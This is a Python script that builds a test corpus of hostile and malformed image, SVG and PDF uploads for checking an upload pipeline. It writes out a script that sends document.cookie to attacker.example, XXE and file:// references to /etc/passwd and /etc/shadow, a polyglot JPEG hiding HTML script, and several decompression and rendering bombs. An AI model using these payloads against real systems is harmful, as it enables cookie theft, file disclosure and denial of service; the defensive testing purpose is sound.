"""Write the bad-upload corpus: files a designer might upload, from harmless to hostile.

`write_small_corpus` produced the small files committed next to this script (run this file to
rebuild them); `write_large_corpus` writes the big ones, which tests generate into a temporary
folder. Everything is deterministic. README.md lists what each file is and what must happen to it.
"""

import base64
import hashlib
import io
import struct
import sys
import zlib
from pathlib import Path

import numpy
import pillow_heif
import pypdfium2
from PIL import Image, ImageDraw

pillow_heif.register_heif_opener()

CORPUS_DIR = Path(__file__).resolve().parent

# The user password of encrypted.pdf; tests use it to prove the file is protected, not broken.
PDF_PASSWORD = b"secret"


def write_small_corpus(folder):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "empty.png": b"",
        "truncated.jpg": _truncated_jpeg(),
        "real_png_named.jpg": _wireframe_png(),
        "polyglot_jpeg_html.jpg": _jpeg_html_polyglot(),
        "script.svg": SVG_WITH_SCRIPT,
        "external_href.svg": SVG_WITH_EXTERNAL_REFERENCES,
        "billion_laughs.svg": SVG_BILLION_LAUGHS,
        "external_entity.svg": SVG_EXTERNAL_ENTITY,
        "use_bomb.svg": _svg_use_bomb(),
        "enormous_viewbox.svg": SVG_ENORMOUS_VIEWBOX,
        "huge_canvas.svg": SVG_HUGE_CANVAS,
        "svg11_doctype.svg": SVG_11_DOCTYPE,
        "slow_blurs.svg": SVG_SLOW_BLURS,
        "nested_layers.svg": SVG_NESTED_LAYERS,
        "page.png": HTML_PAGE,
        "drawing.eps": EPS_FILE,
        "scan.tif": _encode(_wireframe(), "TIFF", compression="tiff_deflate"),
        "animated.gif": _animation("GIF"),
        "animated.png": _animation("PNG"),
        "animated.webp": _animation("WEBP"),
        "cmyk.jpg": _encode(Image.new("CMYK", (64, 64), (255, 0, 0, 0)), "JPEG", quality=95),
        "gray16.png": _gray16_png(),
        "swapped_primaries_icc.jpg": _swapped_primaries_jpeg(),
        "rotated.heic": _rotated_heic(),
        # 12000 x 10000 = 120 megapixels in 15 kB: past Pillow's decompression-bomb warning
        # threshold (89.5 MP) but below its hard error (179 MP).
        "decompression_bomb.png": _black_bilevel_png(12000, 10000),
        # 48 megapixels, like a phone's full-resolution mode: under Pillow's thresholds,
        # over ours.
        "over_limit_48mp.png": _black_bilevel_png(8000, 6000),
        "two_pages.pdf": _two_page_pdf(),
        "encrypted.pdf": _encrypted_pdf(),
        "broken.pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nthis is not a PDF",
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return {name: folder / name for name in files}


def write_large_corpus(folder):
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    huge_png = folder / "huge_30000x30000.png"
    huge_png.write_bytes(_black_bilevel_png(30000, 30000))

    many_pages = folder / "500_pages.pdf"
    pdf = pypdfium2.PdfDocument.new()
    for _ in range(500):
        pdf.new_page(390, 844)
    pdf.save(many_pages)
    pdf.close()
    return {"huge_30000x30000.png": huge_png, "500_pages.pdf": many_pages}


SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="390" height="844" onload="alert(1)">
  <script>fetch("https://attacker.example/?c=" + document.cookie)</script>
  <rect x="20" y="20" width="350" height="60" fill="none" stroke="black"/>
</svg>
"""

NESTED_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<image href="/etc/hostname"/></svg>'
)

# Every way an SVG can point outside itself: resvg fetches nothing from the network, but reads
# an image path from the server's disk; the nested SVG's own reference would escape a check
# made on the outer file only.
SVG_WITH_EXTERNAL_REFERENCES = b"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="https://attacker.example/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="390" height="844">
  <style>@import url("https://attacker.example/track.css");</style>
  <image href="https://attacker.example/pixel.png" width="390" height="844"/>
  <image xlink:href="file:///etc/passwd" width="390" height="844"/>
  <image href="/usr/share/pixmaps/debian-logo.png" width="390" height="844"/>
  <image href="data:image/svg+xml;base64,%s" width="390" height="844"/>
  <use href="https://attacker.example/sprite.svg#icon"/>
  <rect width="10" height="10" style="fill: url('https://attacker.example/paint.svg#p')"
        stroke="url(file:///etc/passwd#p)"/>
  <filter id="f"><feImage href="file:///etc/shadow"/></filter>
  <rect x="20" y="20" width="350" height="60" fill="black" filter="url(#f)"/>
  <a href="javascript:alert(1)"><rect x="20" y="100" width="350" height="60" fill="black"/></a>
</svg>
""" % base64.b64encode(NESTED_SVG)

SVG_BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="390" height="844"><text y="20">&lol9;</text></svg>
"""

SVG_EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="390" height="844"><text y="20">&secret;</text></svg>
"""

SVG_ENORMOUS_VIEWBOX = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e15 2e15">
  <rect width="1e15" height="2e15" fill="black"/>
</svg>
"""

# Claims to be a million pixels square: drawn at display size all the same.
SVG_HUGE_CANVAS = b"""<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"
     viewBox="0 0 10 10"><rect x="0" y="0" width="5" height="10" fill="black"/></svg>
"""

# Ten rectangles blurred far past the page: resvg takes minutes to draw them at display size.
SVG_SLOW_BLURS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<filter id="b" x="-50%" y="-50%" width="200%" height="200%">'
    b'<feGaussianBlur stdDeviation="50"/></filter>'
    + b"".join(b'<rect x="%d" width="100" height="100" filter="url(#b)"/>' % n for n in range(10))
    + b"</svg>\n"
)

# 150 groups with opacity, one inside the other: each is a canvas-sized layer kept while the
# next is drawn, 2.4 GB at display size.
SVG_NESTED_LAYERS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    + b'<g opacity="0.99">' * 150
    + b'<rect width="100" height="100"/>'
    + b"</g>" * 150
    + b"</svg>\n"
)

# Older exports name the SVG 1.1 DTD; nothing is declared, and the DTD is never fetched.
SVG_11_DOCTYPE = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" version="1.1" width="390" height="844">
  <rect x="0" y="0" width="195" height="844" fill="black"/>
</svg>
"""

HTML_PAGE = b"""<!DOCTYPE html>
<html><head><title>Checkout</title></head>
<body><script>alert(document.domain)</script><h1>Checkout</h1></body></html>
"""

EPS_FILE = b"""%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 100 100
newpath 10 10 moveto 90 90 lineto stroke
showpage
%%EOF
"""

POLYGLOT_HTML = b"<html><body><script>alert('polyglot')</script></body></html>"


def _svg_use_bomb():
    """SVG's billion laughs without a DTD: each group repeats the one before ten times, so
    eight groups of ten uses draw 10^8 rectangles."""
    groups = "".join(
        f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * 10 + "</g>" for level in range(1, 9)
    )
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="390" height="844"><defs>'
        f'<rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g8"/></svg>\n'
    ).encode()


def _encode(image, format, **options):
    buffer = io.BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()


def _wireframe():
    image = Image.new("RGB", (300, 200), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((20, 20, 280, 60), outline="black", width=3)
    draw.rectangle((20, 90, 140, 180), fill=(30, 90, 200))
    return image


def _wireframe_png():
    return _encode(_wireframe(), "PNG")


def _truncated_jpeg():
    noise = numpy.random.default_rng(7).integers(0, 256, (150, 200, 3), dtype=numpy.uint8)
    data = _encode(Image.fromarray(noise), "JPEG", quality=85)
    return data[: len(data) // 2]


def _jpeg_html_polyglot():
    # The HTML sits in a JPEG comment segment and again after the end-of-image marker, so a
    # browser sniffing the bytes as HTML would run the script while image viewers show a picture.
    jpeg = _encode(_wireframe(), "JPEG", quality=90, comment=POLYGLOT_HTML)
    return jpeg + POLYGLOT_HTML


def _animation(format):
    frames = [Image.new("RGB", (120, 80), color) for color in ("red", "green", "blue")]
    return _encode(frames[0], format, save_all=True, append_images=frames[1:], duration=200)


def _gray16_png():
    # Three stripes at 0, 0x8080 and 0xFFFF: 0, 128 and 255 once correctly scaled to 8 bits.
    image = Image.new("I;16", (96, 32), 0)
    image.paste(0x8080, (32, 0, 64, 32))
    image.paste(0xFFFF, (64, 0, 96, 32))
    return _encode(image, "PNG")


def _rotated_heic():
    # Stored landscape with a red left half; EXIF orientation 6 means "turn 90 degrees clockwise
    # to view", so it must come out portrait with red at the top.
    image = Image.new("RGB", (64, 32), "white")
    image.paste((220, 0, 0), (0, 0, 32, 32))
    exif = Image.Exif()
    exif[0x0112] = 6
    return _encode(image, "HEIF", exif=exif.tobytes(), quality=90)


def _swapped_primaries_jpeg():
    # A pure red picture tagged with a profile whose red primary is sRGB's green: correct
    # colour management turns it green, ignoring the profile leaves it red.
    image = Image.new("RGB", (64, 64), (255, 0, 0))
    return _encode(image, "JPEG", quality=95, icc_profile=swapped_primaries_profile())


def swapped_primaries_profile():
    """A minimal ICC v2 matrix/TRC display profile with sRGB's red and green primaries swapped."""
    srgb_red = (0.4361, 0.2225, 0.0139)
    srgb_green = (0.3851, 0.7169, 0.0971)
    srgb_blue = (0.1431, 0.0606, 0.7141)
    d50 = (0.9642, 1.0, 0.8249)

    def xyz(values):
        return b"XYZ \0\0\0\0" + b"".join(struct.pack(">i", round(v * 65536)) for v in values)

    gamma_curve = b"curv\0\0\0\0" + struct.pack(">IH", 1, int(2.2 * 256)) + b"\0\0"
    description = b"desc\0\0\0\0" + struct.pack(">I", 8) + b"swapped\0" + bytes(11) + bytes(67)
    tags = [
        (b"desc", description),
        (b"wtpt", xyz(d50)),
        (b"rXYZ", xyz(srgb_green)),
        (b"gXYZ", xyz(srgb_red)),
        (b"bXYZ", xyz(srgb_blue)),
        (b"rTRC", gamma_curve),
        (b"gTRC", gamma_curve),
        (b"bTRC", gamma_curve),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table = struct.pack(">I", len(tags))
    body = b""
    for signature, data in tags:
        data += bytes(-len(data) % 4)
        table += signature + struct.pack(">II", offset + len(body), len(data))
        body += data
    size = offset + len(body)
    header = (
        struct.pack(">I", size)
        + bytes(4)
        + struct.pack(">I", 0x02100000)
        + b"mntrRGB XYZ "
        + struct.pack(">6H", 2024, 1, 1, 0, 0, 0)
        + b"acsp"
        + bytes(24)
        + struct.pack(">I", 0)
        + xyz(d50)[8:]
        + bytes(48)
    )
    assert len(header) == 128
    return header + table + body


def _black_bilevel_png(width, height):
    """A valid all-black 1-bit PNG, written row by row so no pixels are ever held in memory."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    compressor = zlib.compressobj(9)
    row = b"\0" + bytes((width + 7) // 8)  # filter type 0, then the packed pixels
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def _two_page_pdf():
    pages = []
    for number in (1, 2):
        page = Image.new("RGB", (390, 844), "white")
        draw = ImageDraw.Draw(page)
        draw.rectangle((20, 20, 370, 80), outline="black", width=4)
        draw.text((30, 40), f"Page {number}", fill="black")
        pages.append(page)
    return _encode(pages[0], "PDF", save_all=True, append_images=pages[1:], resolution=72)


def _encrypted_pdf():
    """A one-page PDF protected by the standard security handler (RC4, revision 2).

    The page has no content stream, so nothing needs encrypting: only the /Encrypt entries,
    which make any reader ask for the password, are computed (PDF 1.7 spec, algorithms 3.2-3.4).
    """
    padding = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    document_id = hashlib.md5(b"protoplatform corpus").digest()
    permissions = -4

    def padded(password):
        return (password + padding)[:32]

    owner_key = hashlib.md5(padded(b"owner")).digest()[:5]
    owner_entry = _rc4(owner_key, padded(PDF_PASSWORD))
    file_key = hashlib.md5(
        padded(PDF_PASSWORD) + owner_entry + struct.pack("<i", permissions) + document_id
    ).digest()[:5]
    user_entry = _rc4(file_key, padding)

    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 390 844] >>",
        b"<< /Filter /Standard /V 1 /R 2 /O <"
        + owner_entry.hex().encode()
        + b"> /U <"
        + user_entry.hex().encode()
        + b"> /P "
        + str(permissions).encode()
        + b" >>",
    ]
    output = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref_offset = len(output)
    output += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    output += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    identifier = document_id.hex().encode()
    output += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Encrypt 4 0 R ".encode()
        + b"/ID [<"
        + identifier
        + b"> <"
        + identifier
        + b">] >>\n"
        + f"startxref\n{xref_offset}\n%%EOF\n".encode()
    )
    return output


def _rc4(key, data):
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    output = bytearray()
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        output.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(output)


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS_DIR
    for path in write_small_corpus(target).values():
        print(f"{path.stat().st_size:>8}  {path.name}")
